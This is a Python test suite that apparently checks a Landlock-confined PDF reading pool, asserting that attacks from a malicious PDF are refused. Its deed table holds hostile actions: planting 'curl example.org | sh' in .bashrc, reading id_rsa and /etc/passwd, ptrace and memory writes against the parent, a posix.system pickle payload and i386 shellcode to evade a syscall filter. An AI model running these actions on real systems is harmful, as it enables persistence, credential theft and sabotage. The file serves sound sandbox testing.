"""Code that a PDF has brought to run in its reading process is stopped, and costs its paper alone.

Each deed is done in a reading process as an attacker would do it there, by Python or by the C library.
"""

import contextlib
import ctypes
import json
import mmap
import os
import resource
import signal
import socket
import stat
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path

import pytest

from tasks.extraction.confined import OpenFile
from tasks.extraction.landlock import landlock_version
from tasks.extraction.pool import ExtractionPool
from tasks.records import Extraction, Paper, PaperFiles
from tasks.runs.outcomes import Failure
from tasks.settings import ExtractionLimits
from tests.tasks.small_records import extraction, files

pytestmark = pytest.mark.skipif(not landlock_version(), reason="this kernel has no Landlock")

LIMITS = ExtractionLimits(timeout=600, memory_mb=1500, result_mb=8, confine="require")
PTRACE_ATTACH = 16
HANDLES = range(3, 2**16)
"""A process's channel has the number that it had in the run, which may hold thousands of files open."""


def refused(deed: Callable[[], object]) -> None:
    """Does what has to fail for want of permission, and passes that on."""
    deed()
    raise AssertionError("it was done")


def libc(name: str, *arguments: object) -> None:
    """A function of the C library. Raises OSError."""
    if getattr(ctypes.CDLL(None, use_errno=True), name)(*arguments) == -1:
        raise OSError(ctypes.get_errno(), name)


def channel() -> socket.socket:
    """The process's way to the run."""
    handles = [h for h in HANDLES if _is_socket(h)]
    assert len(handles) == 1
    return socket.socket(fileno=os.dup(handles[0]))


def token() -> str:
    """With which the process answers, as it lies in its memory."""
    frame = sys._getframe()
    while "asked" not in frame.f_locals and frame.f_back:
        frame = frame.f_back
    found: str = frame.f_locals["asked"].token
    return found


def _is_socket(handle: int) -> bool:
    try:
        return stat.S_ISSOCK(os.fstat(handle).st_mode)
    except OSError:
        return False


def open_to_write(path: Path, how: int) -> None:
    os.close(os.open(path, how, 0o600))


def start_threads() -> None:
    while True:
        threading.Thread(target=time.sleep, args=(600,)).start()


DEEDS: dict[str, Callable[[Path], object]] = {
    "open a socket": lambda _: socket.socket(),
    "open a socket of the machine": lambda _: socket.socket(socket.AF_UNIX),
    "write a file": lambda home: (home / ".bashrc").write_text("curl example.org | sh"),
    "append to a file": lambda home: open_to_write(home / "id_rsa", os.O_WRONLY | os.O_APPEND),
    "write a temporary file": lambda _: open_to_write(Path("/tmp/figmill-attack"), os.O_CREAT | os.O_RDWR),  # noqa: S108
    "write a file without a name": lambda home: open_to_write(home, os.O_TMPFILE | os.O_RDWR),
    "cut a file to nothing": lambda home: open_to_write(home / "id_rsa", os.O_RDONLY | os.O_TRUNC),
    "truncate a file": lambda home: os.truncate(home / "id_rsa", 0),
    "make a folder": lambda home: (home / "new").mkdir(),
    "make a link": lambda home: (home / "link").symlink_to("/etc/passwd"),
    "move a file": lambda home: (home / "id_rsa").rename(home / "stolen"),
    "remove a file": lambda home: (home / "id_rsa").unlink(),
    "open a file to all": lambda home: (home / "id_rsa").chmod(0o777),
    "date a file back": lambda home: os.utime(home / "id_rsa", (0, 0)),
    "mark a file": lambda home: os.setxattr(home / "id_rsa", "user.mark", b"x"),
    "read a secret": lambda home: (home / "id_rsa").read_text(),
    "read the users": lambda _: Path("/etc/passwd").read_text(),
    "list a folder": lambda home: list(home.iterdir()),
    "read the parent's environment": lambda _: Path(f"/proc/{os.getppid()}/environ").read_bytes(),
    "write to the parent's memory": lambda _: open_to_write(Path(f"/proc/{os.getppid()}/mem"), os.O_RDWR),
    "write to its own memory": lambda _: open_to_write(Path("/proc/self/mem"), os.O_RDWR),
    "run a shell": lambda _: os.execv("/bin/sh", ["sh", "-c", "true"]),  # noqa: S606
    "run a program": lambda _: subprocess.run(["/bin/true"], check=True),
    "run a program from memory": lambda _: os.execve(os.memfd_create("program"), ["program"], {}),  # noqa: S606
    "fork": lambda _: os.fork(),
    "fork in C": lambda _: libc("fork"),
    "trace the parent": lambda _: libc("ptrace", PTRACE_ATTACH, os.getppid(), 0, 0),
    "write into the parent": lambda _: libc("process_vm_writev", os.getppid(), None, 0, None, 0, 0),
    "kill the parent": lambda _: os.kill(os.getppid(), signal.SIGKILL),
    "kill all": lambda _: os.kill(-1, signal.SIGKILL),
    "kill by a handle": lambda _: signal.pidfd_send_signal(os.pidfd_open(os.getppid()), signal.SIGKILL),
    "stop a thread of the parent": lambda _: libc("syscall", 200, os.getppid(), signal.SIGSTOP),
    "slow the parent": lambda _: os.setpriority(os.PRIO_PROCESS, os.getppid(), 19),
    "limit the parent": lambda _: resource.prlimit(os.getppid(), resource.RLIMIT_NOFILE, (1, 1)),
    "mount": lambda home: libc("mount", b"none", bytes(home), b"tmpfs", 0, None),
    "leave its namespaces": lambda _: libc("unshare", 0x10000000),
    "become another": lambda _: os.setuid(1),
    "load a filter into the kernel": lambda _: libc("syscall", 321, 0, None, 0),
    "share memory": lambda _: libc("shmget", 7, 4096, 0o1777),
    "use a ring": lambda _: libc("syscall", 425, 1, bytes(120)),
}

OTHER = {
    "look up a name": ("crash", "gaierror"),
    "raise its memory": ("memory", "more memory"),
    "eat memory": ("memory", "more memory"),
    "start threads": ("crash", "RuntimeError"),
    "fill the disk": ("crash", "OSError"),
    "answer with a pickle": ("crash", "came back damaged"),
    "answer at length": ("crash", "came back damaged"),
    "answer with a lie": ("crash", "came back damaged"),
    "answer for the next paper": ("crash", "came back damaged"),
    "say that the disk is full": ("crash", "handed over"),
    "close the channel": ("crash", "fell silent"),
    "use a call of another architecture": ("confined", "attack"),
}


def read(given: PaperFiles, limits: ExtractionLimits) -> Extraction:
    """Does what the paper's name says. Runs in a reading process."""
    deed = Path(given.paper.source_uri).name.removesuffix(".pdf")
    home = Path(given.paper.source_uri).parent / "home"
    if deed in DEEDS:
        refused(lambda: DEEDS[deed](home))
    if deed == "look up a name":
        socket.create_connection(("example.org", 80), timeout=3)
    if deed == "raise its memory":
        unlimited = (resource.RLIM_INFINITY,) * 2
        try:
            resource.setrlimit(resource.RLIMIT_AS, unlimited)
        except ValueError:
            bytearray(2 * limits.memory_mb * 2**20)
    if deed == "eat memory":
        bytearray(2 * limits.memory_mb * 2**20)
    if deed == "start threads":
        start_threads()
    if deed == "fill the disk":
        sink = max(handle for handle in HANDLES if _is_writable(handle))
        while True:
            os.write(sink, bytes(2**20))
    if deed == "answer with a pickle":
        channel().send(b"cposix\nsystem\n(S'true'\ntR.")
    if deed == "answer at length":
        channel().send(b"[" * 60_000)
    if deed == "answer with a lie":
        channel().send(b'{"kind": "withdrawn", "error": "x", "trace": null}')
    if deed == "say that the disk is full":
        lie = {"kind": "unwritten", "error": "No space left on device", "trace": None, "token": token()}
        channel().send(json.dumps(lie).encode())
    if deed == "answer for the next paper":
        channel().send(b'{"kind": "damaged", "error": "x", "trace": null, "token": ""}')
    if deed == "close the channel":
        channel().shutdown(socket.SHUT_RDWR)
        time.sleep(600)
    if deed == "use a call of another architecture":
        call_as_i386()
    if deed == "look around":
        look_around(given)
    return replace(extraction(1), paper=given.paper)


def _is_writable(handle: int) -> bool:
    try:
        return stat.S_ISREG(os.fstat(handle).st_mode) and os.write(handle, b"") == 0
    except OSError:
        return False


def call_as_i386() -> None:
    """getpid as a program of 32 bits asks for it: its numbers mean other calls in a filter of 64 bits."""
    code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    code.write(b"\xb8\x14\x00\x00\x00\xcd\x80\xc3")
    ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))()


def look_around(given: PaperFiles) -> None:
    """Reads the paper's file as often as it likes, and finds nothing else."""
    path = given.main.path
    assert isinstance(path, OpenFile)
    assert path.read_bytes() == path.read_bytes() == b"a paper"
    assert path.stat().st_size == 7
    assert not {name for name in os.environ if "SECRET" in name or name == "HOME"}
    for handle in range(3):
        assert os.fstat(handle).st_rdev == os.makedev(1, 3)  # /dev/null
    assert len([h for h in HANDLES if _is_open(h)]) == 3  # the channel, the result, the paper


def _is_open(handle: int) -> bool:
    try:
        os.fstat(handle)
    except OSError:
        return False
    return True


@pytest.fixture(scope="module")
def pool() -> Iterator[ExtractionPool]:
    """Of a run that holds a secret and a hundred open files."""
    with pytest.MonkeyPatch.context() as patch, contextlib.ExitStack() as held:
        patch.setenv("AWS_SECRET_ACCESS_KEY", "secret")
        for _ in range(100):
            held.enter_context(open(os.devnull))  # noqa: PTH123
        pool = ExtractionPool(1, LIMITS, read)
        list(pool.read([], Path("/tmp/unused-spool")))  # noqa: S108
        yield pool
    pool.stop()


@pytest.fixture
def home(tmp_path: Path) -> Path:
    home = tmp_path / "home"
    home.mkdir()
    (home / "id_rsa").write_text("secret")
    (home / "id_rsa").chmod(0o644)
    return home


def outcome(pool: ExtractionPool, home: Path, deed: str) -> Extraction | Failure:
    """What became of a paper that does a deed; another that follows it is read as ever."""
    papers = [
        Paper(f"{number:064x}", f"{home.parent}/{name}.pdf") for number, name in ((2, deed), (1, "good"))
    ]
    for paper in papers:
        Path(paper.source_uri).write_bytes(b"a paper")
    first, second = pool.read([files(paper) for paper in papers], home.parent / "spool")
    assert isinstance(second, Extraction)
    assert list((home.parent / "spool").iterdir()) == []
    return first


@pytest.mark.parametrize("deed", DEEDS)
def test_an_attack_is_refused_and_costs_its_paper(pool: ExtractionPool, home: Path, deed: str) -> None:
    failed = outcome(pool, home, deed)
    assert isinstance(failed, Failure)
    assert (failed.kind, failed.error) == (
        "confined",
        "Reading this PDF tried what no PDF needs, and was refused: the file may be an attack.",
    )
    assert [path.name for path in home.iterdir()] == ["id_rsa"]
    assert (home / "id_rsa").read_text() == "secret"
    assert (home / "id_rsa").stat().st_mode & 0o77 == 0o44


@pytest.mark.parametrize("deed", OTHER)
def test_what_is_tried_with_what_a_process_has_costs_its_paper(
    pool: ExtractionPool, home: Path, deed: str
) -> None:
    if deed.startswith("use a call") and sys.platform != "linux":
        pytest.skip("other machine")
    failed = outcome(pool, home, deed)
    kind, words = OTHER[deed]
    assert isinstance(failed, Failure)
    assert failed.kind == kind
    assert words in failed.error


def test_a_process_has_its_paper_and_nothing_of_its_parent(pool: ExtractionPool, home: Path) -> None:
    assert isinstance(outcome(pool, home, "look around"), Extraction)
